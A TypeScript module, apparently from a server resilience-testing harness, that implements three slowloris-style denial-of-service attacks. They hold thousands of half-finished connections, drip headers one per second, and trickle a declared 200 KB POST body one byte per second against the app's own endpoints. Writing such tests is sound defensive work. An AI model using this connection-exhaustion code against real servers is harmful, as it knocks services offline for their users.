import { once } from 'node:events';
import { setTimeout as sleep } from 'node:timers/promises';
import { Somebody } from './address.ts';
import type { Attack, Scene, Tally } from './attack.ts';
import { always, counted, requestBytes } from './wire.ts';

const AT_ONCE = 100;
const DRIP_MS = 1000;

/** So many connections that each say something, and then a little more each second where there is more. */
async function drip(
  scene: Scene,
  tally: Tally,
  connections: number,
  head: Buffer,
  drop = Buffer.alloc(0),
): Promise<void> {
  const hold = async (): Promise<void> => {
    const socket = await counted(scene, tally);
    const closed = once(socket, 'close');
    socket.write(head);
    tally.sent++;
    while (drop.length > 0 && !socket.destroyed) {
      await Promise.race([sleep(DRIP_MS), closed]);
      socket.write(drop);
    }
    await closed;
  };
  for (let each = 0; each < connections; each++) {
    void always(scene, hold);
    if (each % AT_ONCE === 0) await sleep(10);
  }
}

async function dripBodies(scene: Scene, tally: Tally): Promise<void> {
  const { cookie } = await Somebody.at(scene.url, scene.address);
  const head = requestBytes(scene, 'POST', '/api/shared', {
    headers: { cookie, 'content-type': 'application/json', 'content-length': '200000' },
  });
  await drip(scene, tally, scene.some(1500), head, Buffer.from(' '));
}

/** Connections that are slow to say what they want. */
export const SLOW_ATTACKS: readonly Attack[] = [
  {
    name: 'connections',
    says: '2,000 connections that begin a request and say no more',
    least: ({ some }) => some(2000),
    begin: async (scene, tally) =>
      drip(scene, tally, scene.some(2000), Buffer.from('GET /api/tables HTTP/1.1\r\nHost: a\r\nX-Slow: ')),
  },
  {
    name: 'slow-headers',
    says: '1,500 connections that add a header a second',
    least: ({ some }) => some(1500),
    begin: async (scene, tally) =>
      drip(
        scene,
        tally,
        scene.some(1500),
        Buffer.from('GET /api/tables HTTP/1.1\r\nHost: a\r\n'),
        Buffer.from('X-Slow: 1\r\n'),
      ),
  },
  {
    name: 'slow-bodies',
    says: '1,500 connections of a guest that add a byte of a body a second',
    least: ({ some }) => some(1500),
    begin: dripBodies,
  },
];
